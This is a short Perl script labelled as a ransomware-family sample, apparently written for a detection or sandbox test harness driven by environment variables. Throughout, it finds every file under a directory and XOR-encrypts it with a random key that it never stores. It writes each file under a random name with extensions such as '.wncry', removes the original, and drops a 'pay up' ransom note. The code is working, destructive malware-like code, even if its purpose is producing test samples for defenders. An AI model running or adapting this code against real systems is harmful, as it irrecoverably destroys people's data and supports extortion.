#!/usr/bin/perl
# family: ransomware
# needs: docs
# actors: perl
# Ransomware-like in Perl: find every file, XOR it with a key, rename it to a random name with a new
# extension, leave a note.
use strict; use warnings; use File::Find;
srand($ENV{PG_SEED});
my $key = join('', map { chr(int(rand(256))) } 1 .. 16);
my @ext = ('.wncry', '.cry', '.pay', '.lock');
my $ext = $ext[int(rand(@ext))];
my @files;
find(sub { push @files, $File::Find::name if -f $_ }, $ENV{PG_DATA});
for my $f (@files) {
  open(my $in, '<:raw', $f) or next; local $/; my $d = <$in>; close $in;
  $d ^= substr($key x (1 + length($d) / 16), 0, length($d));
  (my $dir = $f) =~ s{/[^/]*$}{};
  my $new = sprintf("%s/%08x%s", $dir, int(rand(2**31)), $ext);
  open(my $out, '>:raw', $new) or next; print $out $d; close $out;
  unlink $f;
}
open(my $n, '>', "$ENV{PG_DATA}/README_RESTORE.txt"); print $n "pay up\n"; close $n;
